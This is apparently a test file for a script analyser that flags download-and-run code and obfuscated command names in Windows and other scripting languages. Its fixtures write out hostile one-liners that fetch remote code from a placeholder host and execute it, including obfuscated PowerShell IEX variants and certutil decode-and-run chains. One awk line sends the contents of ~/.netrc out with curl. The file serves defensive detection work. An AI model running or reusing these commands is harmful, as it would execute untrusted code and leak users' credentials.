import { describe, expect, test } from 'vitest';
import type { Language } from '../../src/model/index.js';
import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
import { makeUnit, NO_HURRY } from '../support/make-unit.js';

const AT = 'https://cdn.example.invalid';
const read = (language: Language, text: string) => scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
const originsOf = (language: Language, text: string) =>
  read(language, text).facts.flatMap((fact) => (fact.type === 'execute' ? [fact.origin] : []));

describe('what is downloaded and run by a script of Windows', () => {
  test.each<[Language, string]>([
    [
      'vbscript',
      `Set x=CreateObject("MSXML2.XMLHTTP")\nx.Open "GET","${AT}/v",False\nx.Send\nExecuteGlobal x.responseText`,
    ],
    [
      'vbscript',
      `Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "${AT}/p", False\nh.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.SaveToFile "C:\\p\\p.exe", 2\nCreateObject("WScript.Shell").Run "C:\\p\\p.exe", 0`,
    ],
    [
      'javascript',
      `var x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "${AT}/j", false);\nx.send();\neval(x.responseText);`,
    ],
    ['autohotkey', `UrlDownloadToFile, ${AT}/a.exe, %A_Temp%\\a.exe\nRun, %A_Temp%\\a.exe`],
    ['batch', `certutil -urlcache -f ${AT}/c.txt c.txt\ncertutil -decode c.txt c.exe\nstart "" c.exe`],
    ['batch', `curl -s ${AT}/a.exe -o a.exe & a.exe`],
    ['lua', `local h=io.popen('curl -s ${AT}/l')\nlocal s=h:read('*a')\nassert(load(s))()`],
    ['php', `<?php $c = shell_exec("curl -s ${AT}/a"); eval($c);`],
    ['awk', `BEGIN { while (("curl -s ${AT}/a" | getline l) > 0) system(l) }`],
  ])('%s: %s', (language, text) => {
    expect(originsOf(language, text)).toContain('downloaded');
  });

  test.each<[Language, string]>([
    [
      'vbscript',
      `Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "${AT}/v", False\nh.Send\nWScript.Echo h.responseText`,
    ],
    ['javascript', 'var x = new ActiveXObject("Excel.Application"); x.Visible = true;'],
    ['batch', `curl -s ${AT}/a.txt -o a.txt\nstart notepad a.txt`],
    ['batch', 'copy a.txt b.txt & build.exe'],
    ['lua', "local f = io.popen('git status')\nload('return 1')()"],
    ['awk', '{ s += $2 } END { print s; system("date") }'],
    ['autohotkey', '; Run, x\nSend, Hello\nRun, notepad.exe'],
  ])('%s: %s is ordinary', (language, text) => {
    expect(originsOf(language, text)).toEqual([]);
  });
});

describe('names in pieces', () => {
  test.each<[Language, string]>([
    ['powershell', `&("i"+"ex") ((New-Object Net.WebClient).("Down"+"loadString").Invoke("${AT}/a"))`],
    ['powershell', `I\`E\`X (irm ${AT}/a)`],
    ['powershell', `&("{1}{0}" -f 'EX','I') (irm ${AT}/a)`],
    ['powershell', `&('iZx'.Replace('Z','e')) (irm ${AT}/a)`],
    ['batch', `c^u^r^l -s ${AT}/a`],
    ['batch', `set a=cu\nset b=rl\n%a%%b% -s ${AT}/a`],
    ['vbscript', 'Set s = CreateObject("WScri" & "pt.Shell")'],
  ])('%s: %s', (language, text) => {
    expect(originsOf(language, text)).toContain('decoded');
  });

  test.each<[Language, string]>([
    ['powershell', '$u = "https://api.example.com" + "/v1"\nWrite-Host ("{0} of {1}" -f $a, $b)'],
    ['powershell', '$tool = "curl"\n& $tool -s https://api.example.com/x'],
    ['batch', 'set CURL=curl\n%CURL% -s https://api.example.com/x'],
    ['vbscript', 'name = "Dear " & "reader"'],
  ])('%s: %s hides nothing', (language, text) => {
    expect(originsOf(language, text)).not.toContain('decoded');
  });
});

test('a secret goes through a command of awk to another one', () => {
  const { facts } = read('awk', `BEGIN{"cat ~/.netrc|base64"|getline k; system("curl -s ${AT}/?" k)}`);
  expect(facts.some((fact) => fact.type === 'flow')).toBe(true);
});

test('a command of the shell object is read as a batch file', () => {
  const { units } = read('vbscript', 'CreateObject("WScript.Shell").Run "cmd /c dir", 0');
  expect(units).toMatchObject([{ language: 'batch', text: 'cmd /c dir' }]);
});
